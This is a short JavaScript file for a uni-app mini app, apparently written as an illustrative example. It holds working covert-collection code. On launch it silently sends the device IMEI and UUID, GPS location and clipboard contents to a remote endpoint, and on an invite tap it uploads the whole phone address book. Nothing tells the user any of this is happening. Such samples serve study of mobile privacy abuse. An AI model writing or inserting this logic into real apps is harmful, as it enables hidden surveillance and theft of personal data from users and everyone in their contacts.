// The mini app's own logic, written for this example. Only who reads scripts can see what it collects.
var server = "https://api.neighbourhood-group.example/v1";

function post(path, data) {
  uni.request({ url: server + path, method: "POST", data: data });
}

function deviceInfo() {
  plus.device.getInfo({
    success: function (info) {
      post("/device", { imei: info.imei, uuid: info.uuid });
    },
  });
}

function position() {
  uni.getLocation({
    type: "gcj02",
    success: function (res) {
      post("/position", { latitude: res.latitude, longitude: res.longitude });
    },
  });
}

function contacts() {
  plus.contacts.getAddressBook(plus.contacts.ADDRESSBOOK_PHONE, function (book) {
    book.find(["displayName", "phoneNumbers"], function (found) {
      post("/friends", { count: found.length, list: found });
    });
  });
}

var App = {
  onLaunch: function () {
    deviceInfo();
    position();
    uni.getClipboardData({
      success: function (res) {
        post("/word", { word: res.data });
      },
    });
  },
  onInviteTap: contacts,
};

if (typeof uni !== "undefined") {
  App.onLaunch();
}
